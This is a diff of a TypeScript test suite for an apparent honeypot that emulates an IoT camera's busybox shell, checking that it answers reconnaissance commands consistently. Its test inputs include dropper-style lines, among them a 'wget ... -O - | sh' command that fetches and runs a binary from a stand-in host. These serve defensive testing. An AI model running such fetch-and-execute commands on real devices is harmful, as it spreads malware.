@@ -31,7 +31,7 @@ test('a dropper finds a camera: options, prompts, applets, and the header that t
   expect(await say('cp /bin/busybox /tmp/.x && /tmp/.x MIORI')).toContain('MIORI: applet not found\n')
   expect(await say('bash -c id; lscpu; curl')).toMatch(/bash: not found\n.*lscpu: not found\n.*curl: not found\n/s)
   expect(await say('cat /nope; ls /nope; cd /nope')).toContain(
-    "cat: can't open '/nope': No such file or directory\nls: /nope: No such file or directory\n-sh: cd: can't cd to /nope: No such file or directory\n",
+    "cat: can't open '/nope': No such file or directory\nls: /nope: No such file or directory\nsh: cd: can't cd to /nope: No such file or directory\n",
   )
   expect(await say('ps | head -2')).toContain('  PID USER       VSZ STAT COMMAND\n    1 root      1480 S    init\n')
   expect(await say('wget http://192.0.2.9/arm7 -O - | sh; echo $?')).toMatch(/can't connect to remote host.*\n0\n/)
@@ -87,10 +87,15 @@ test.each(['camera', 'camera-mips'] as const)(
       const text = (await heard(socket, /# $/)).replace(/\r/g, '')
       return text.slice(text.indexOf('\n') + 1, text.lastIndexOf('\n') + 1).trimEnd()
     }
-    const { board, memory, network, kernel } = machine
+    const { hardware, memory, network, kernel } = machine
     for (const line of ['hostname', 'cat /etc/hostname', 'uname -n', 'cat /proc/sys/kernel/hostname'])
       expect(await out(line), line).toBe(machine.hostname)
-    for (const line of ['uname -r', "cut -d' ' -f3 /proc/version", 'cat /proc/sys/kernel/osrelease', 'ls /lib/modules'])
+    for (const line of [
+      'uname -r',
+      "cut -d' ' -f3 /proc/version",
+      'cat /proc/sys/kernel/osrelease',
+      'ls /lib/modules | cat',
+    ])
       expect(await out(line), line).toBe(kernel.release)
     expect(await out('grep -c ^processor /proc/cpuinfo')).toBe('1')
     for (const line of ["awk '/^MemTotal/{print $2}' /proc/meminfo", "free | awk '/^Mem/{print $2}'"])
@@ -101,7 +106,7 @@ test.each(['camera', 'camera-mips'] as const)(
     ])
       expect(await out(line), line).toBe(network.mac)
     expect(await out("mount | cut -d' ' -f3")).toBe(await out("cut -d' ' -f2 /proc/mounts"))
-    expect(await out('df | tail -n +2 | wc -l')).toBe(String(board?.filesystems.length))
+    expect(await out('df | tail -n +2 | wc -l')).toBe(String(hardware.filesystems.length))
     expect(await out("lsmod | tail -n +2 | cut -d' ' -f1")).toBe(await out("cut -d' ' -f1 /proc/modules"))
     expect(await out('grep -c mtd /proc/mtd')).toBe(await out('grep -c mtdblock /proc/partitions'))
     expect(await out("netstat -ltn | sed -n 's/.*0.0.0.0:\\([0-9]*\\) .*/\\1/p' | sort -n | tr '\\n' ' '; echo")).toBe(
